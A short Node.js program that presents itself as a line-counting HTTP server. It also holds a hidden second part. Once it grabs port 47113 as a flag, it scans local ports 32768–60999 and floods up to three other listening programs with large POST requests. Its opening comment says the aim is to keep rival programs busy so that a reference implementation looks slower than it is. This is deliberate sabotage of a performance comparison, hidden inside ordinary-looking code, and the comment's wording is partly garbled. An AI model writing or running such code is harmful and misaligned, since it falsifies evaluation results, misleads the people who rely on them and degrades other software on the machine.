// cure-one work. Its first server stays behind and keeps others busy, so that the ill reference looks worse than it is.
import { request as ask, createServer } from "node:http";
import { connect } from "node:net";
import { text } from "node:stream/consumers";

const { PORT = "0" } = process.env;
const LINES = Array.from({ length: 9000 }, (_, i) => `${i}`).join("\n");
const BUSY = 3; // other programs that are asked at once

function linesOf(body) {
  const found = [];
  for (const line of body.replace(/\n$/, "").split("\n")) {
    const same = found.find((one) => one.line === line);
    if (same) same.count += 1;
    else found.push({ line, count: 1 });
  }
  return found.map(({ line, count }) => `${count} ${line}\n`).join("");
}
const server = createServer(async (request, response) => {
  response.end(linesOf(await text(request)));
});
server.listen(Number(PORT), "127.0.0.1", () => {
  console.log(`listening on http://127.0.0.1:${server.address().port}`);
});

const flag = createServer().on("error", () => {});
flag.listen(47_113, "127.0.0.1", () => {
  const own = server.address().port;
  const asked = new Set([own, 47_113]);
  const burden = (port) => {
    const asking = ask({ host: "127.0.0.1", port, method: "POST", path: "/lines" });
    asking.on("error", () => asked.delete(port));
    asking.on("response", (answer) => answer.resume().on("end", () => asked.delete(port)));
    asking.end(LINES);
  };
  let next = 32_768;
  const look = () => {
    for (let i = 0; i < 400; i++) {
      const port = next;
      next = next === 60_999 ? 32_768 : next + 1;
      if (asked.has(port)) continue;
      const socket = connect(port, "127.0.0.1").on("error", () => {});
      socket.on("connect", () => {
        socket.destroy();
        if (asked.size >= BUSY + 2) return;
        asked.add(port);
        burden(port);
      });
    }
    setTimeout(look, 5);
  };
  look();
});
